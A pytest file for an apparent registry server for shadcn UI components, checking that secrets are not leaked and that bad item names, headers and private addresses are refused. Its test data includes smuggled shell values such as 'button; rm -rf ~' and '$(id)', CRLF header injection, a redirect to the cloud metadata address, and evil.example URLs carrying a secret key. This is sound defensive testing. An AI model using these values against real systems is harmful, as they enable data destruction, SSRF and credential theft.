"""The registries of a project: namespaces, variables that may and may not be sent, private addresses, the directory."""

from __future__ import annotations

import logging
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
from mcp.client import Client
from shadcn_served import failure, item, project, registry, server, text

from openmanager_core.errors import FleetError, InvalidRequest, NotAllowed, NotFound
from openmanager_shadcn.addresses import item_address, registry_address
from openmanager_shadcn.project import RegistrySource
from openmanager_shadcn.sources import Variables, ask_registry

VIEW = "view_items_in_registries"
ENV = {"REGISTRY_TOKEN": "s3cret-value", "AWS_SECRET_ACCESS_KEY": "never-send-this", "ACME_TOKEN": "acme-value"}


def ask(source: RegistrySource, listed: tuple[str, ...] = (), trusted: tuple[str, ...] = ()) -> Any:
    return ask_registry(source, "button", "new-york-v4", Variables(ENV, listed, frozenset(trusted)))


def bearer(name: str, url: str = "https://r.acme.example/{name}.json") -> RegistrySource:
    return RegistrySource("@acme", url, headers={"Authorization": f"Bearer ${{{name}}}"})


def test_placeholders_are_filled_and_quoted() -> None:
    source = RegistrySource("@acme", "https://acme.example/{style}/{name}.json?x=1", {"v": "${REGISTRY_TOKEN}"})
    asked = ask(source)
    assert asked.url == "https://acme.example/new-york-v4/button.json?x=1&v=s3cret-value"
    assert asked.shown == "https://acme.example/new-york-v4/button.json"


def test_a_variable_of_the_registries_is_sent_in_a_header_and_shown_nowhere() -> None:
    asked = ask(bearer("REGISTRY_TOKEN"))
    assert asked.headers == {"Authorization": "Bearer s3cret-value"}
    assert "s3cret" not in asked.shown + asked.key
    told = asked.blanked(NotFound(f"{asked.url} said s3cret-value", hint="s3cret-value"))
    assert isinstance(told, NotFound) and "s3cret" not in str(told)


@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "PATH", "HOME", "ACME_TOKEN"])
def test_any_other_variable_is_refused_until_the_user_lists_it(name: str) -> None:
    for source in (
        bearer(name),
        RegistrySource("@acme", f"https://evil.example/${{{name}}}/{{name}}.json"),
        RegistrySource("@acme", "https://evil.example/{name}.json", {"q": f"${{{name}}}"}),
    ):
        with pytest.raises(NotAllowed) as refused:
            ask(source)
        assert name in refused.value.message and "never-send" not in str(refused.value)
    assert ask(bearer("ACME_TOKEN"), ("ACME_TOKEN",)).headers["Authorization"] == "Bearer acme-value"


def test_a_variable_for_one_host_goes_to_no_other() -> None:
    listed = ("ACME_TOKEN@r.acme.example", "REGISTRY_TOKEN@r.acme.example")
    assert ask(bearer("ACME_TOKEN"), listed).headers["Authorization"] == "Bearer acme-value"
    for name in ("ACME_TOKEN", "REGISTRY_TOKEN"):
        with pytest.raises(NotAllowed, match="another host"):
            ask(bearer(name, "https://evil.example/{name}.json"), listed)


def test_a_variable_is_never_sent_over_plain_http_to_a_host_that_the_user_did_not_name() -> None:
    source = bearer("REGISTRY_TOKEN", "http://r.acme.example/{name}.json")
    with pytest.raises(NotAllowed, match="plain http"):
        ask(source)
    assert ask(source, trusted=("http://r.acme.example",)).headers


def test_a_variable_that_is_not_set_is_named() -> None:
    with pytest.raises(NotFound, match="REGISTRY_OTHER"):
        ask(bearer("REGISTRY_OTHER"))


@pytest.mark.parametrize("name", ["Host", "Content-Length", "Bad Name", "X\r\nY", ""])
def test_headers_that_would_bend_the_request_are_refused(name: str) -> None:
    with pytest.raises(InvalidRequest):
        ask(RegistrySource("@a", "https://a.example/{name}.json", headers={name: "x"}))
    with pytest.raises(InvalidRequest):
        ask(RegistrySource("@a", "https://a.example/{name}.json", headers={"X-A": "a\r\nX-B: c"}))


@pytest.mark.parametrize(
    ("given", "meant"),
    [
        ("button", "@shadcn/button"),
        ("@acme/ui/card", "@acme/ui/card"),
        ("https://a.example/r/x.json", "https://a.example/r/x.json"),
        ("./local/x.json", "./local/x.json"),
        ("x.json", "x.json"),
    ],
)
def test_items_are_named_in_every_documented_form(given: str, meant: str) -> None:
    assert str(item_address(given)) == meant
    assert str(item_address(meant)) == meant, "what is shown can be sent back"


@pytest.mark.parametrize(
    "given",
    [
        "", " ", "button; rm -rf ~", "$(id)", "`id`", "a b", "-rf", "--help", "@acme", "@acme/", "@acme/../x", "../..",
        "@a;b/c", "button\n", "b|c", "a&b", "b>c", "@acme/x y", "https://a.example/x y", "https://a.example/$(id)",
        "https://a.example/`id`", "https://a.example/'", "x" * 3000, "@" + "a" * 300 + "/x", "\x00", "a//b",
        "owner/repo/item", "버튼",
    ],
)  # fmt: skip
def test_what_is_no_name_is_refused(given: str) -> None:
    if given in ("../..",):
        assert item_address(given).kind == "path"  # a path, refused where paths are looked up
        return
    with pytest.raises(InvalidRequest):
        item_address(given)


@pytest.mark.parametrize("given", ["shadcn", "@", "@a/b", "", "registry", "@a b"])
def test_what_is_no_registry_is_refused(given: str) -> None:
    with pytest.raises(InvalidRequest):
        registry_address(given)


@pytest.mark.anyio
async def test_a_private_registry_gets_its_header_and_no_log_or_answer_tells_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setenv("REGISTRY_TOKEN", "s3cret-value")
    caplog.set_level(logging.DEBUG)

    def closed(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(403)
        handler.send_header("content-length", "0")
        handler.end_headers()

    with registry() as served:
        served.documents["/acme/card.json"] = item("card")
        served.replies["/acme/secret.json?key=s3cret-value"] = closed
        entry = {
            "url": f"{served.url}/acme/{{name}}.json",
            "headers": {"Authorization": "Bearer ${REGISTRY_TOKEN}"},
            "params": {"key": "${REGISTRY_TOKEN}"},
        }
        folder = project(tmp_path / "p", {"@acme": entry})
        built = server(folder, tmp_path / "home", "https://ui.example/r", allow_private=[served.url])
        async with Client(built) as client:
            answers = [text(await client.call_tool(VIEW, {"items": ["@acme/card"]}))]
            answers.append(failure(await client.call_tool(VIEW, {"items": ["@acme/secret"]})))
            answers.append(text(await client.call_tool("get_project_registries", {})))
        assert served.headers[0]["authorization"] == "Bearer s3cret-value"
        assert "blocked" in answers[1]
    kept = b"".join(file.read_bytes() for file in (tmp_path / "home").rglob("*") if file.is_file())
    assert b"s3cret" not in kept
    assert "s3cret" not in "".join(answers) + caplog.text


@pytest.mark.anyio
async def test_a_project_cannot_name_a_private_address_by_itself(tmp_path: Path) -> None:
    with registry() as served:
        served.documents["/acme/card.json"] = item("card")
        folder = project(tmp_path / "p", {"@acme": f"{served.url}/acme/{{name}}.json"})
        async with Client(server(folder, tmp_path / "home", "https://ui.example/r")) as client:
            said = failure(await client.call_tool(VIEW, {"items": ["@acme/card"]}))
            direct = failure(await client.call_tool(VIEW, {"items": [f"{served.url}/acme/card.json"]}))
        assert "not_allowed" in said and "not_allowed" in direct and served.asked == []


@pytest.mark.anyio
async def test_a_redirect_to_an_address_inside_is_refused(tmp_path: Path) -> None:
    def to_metadata(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(302)
        handler.send_header("location", "http://169.254.169.254/latest/meta-data")
        handler.send_header("content-length", "0")
        handler.end_headers()

    with registry(item("button")) as served:
        served.replies["/r/styles/new-york-v4/button.json"] = to_metadata
        async with Client(server(project(tmp_path / "p"), tmp_path / "home", served.base)) as client:
            assert "not_allowed" in failure(await client.call_tool(VIEW, {"items": ["button"]}))


@pytest.mark.anyio
async def test_an_unknown_registry_is_looked_up_in_the_public_directory(tmp_path: Path) -> None:
    with registry(item("button")) as served:
        served.documents["/r/registries.json"] = [
            {"name": "@magic", "homepage": "x", "url": "https://magic.example/r/{name}.json", "description": "x"},
            {"name": "@evil", "url": "http://127.0.0.1/{name}.json"},
        ]
        built = server(project(tmp_path / "p"), tmp_path / "home", served.base, directory=True)
        async with Client(built) as client:
            shelf = built.state.shelf(await built.state.project())
            assert (await shelf.source("@magic")).url == "https://magic.example/r/{name}.json"
            for name in ("@magix", "@evil"):
                with pytest.raises(FleetError):
                    await shelf.source(name)
            assert "@magic" in failure(await client.call_tool(VIEW, {"items": ["@magix/a"]}))
        assert served.count("registries.json") == 1


@pytest.mark.anyio
@pytest.mark.parametrize(
    ("registries", "said"),
    [
        ({"@shadcn": "https://evil.example/{name}.json"}, "built in"),
        ({"acme": "https://a.example/{name}.json"}, "@acme"),
        ({"@acme": "https://a.example/x.json"}, "{name}"),
        ({"@acme": 5}, "address"),
        ({"@acme": {"url": "https://a.example/{name}", "headers": {"A": 5}}}, "headers"),
    ],
)
async def test_a_components_json_that_is_wrong_is_refused_by_its_key(
    tmp_path: Path, registries: dict[str, Any], said: str
) -> None:
    folder = project(tmp_path / "p", registries)
    async with Client(server(folder, tmp_path / "home", "https://ui.example/r")) as client:
        told = failure(await client.call_tool("get_project_registries", {}))
    assert said in told and "components.json" in told


@pytest.mark.anyio
async def test_without_a_components_json_the_built_in_registry_still_works(tmp_path: Path) -> None:
    (tmp_path / "p").mkdir()
    with registry(item("button")) as served:
        async with Client(server(tmp_path / "p", tmp_path / "home", served.base)) as client:
            said = text(await client.call_tool("get_project_registries", {}))
            assert "no components.json" in said and "init" in said and "@shadcn" in said
            assert "export function Button" in text(await client.call_tool(VIEW, {"items": ["button"]}))
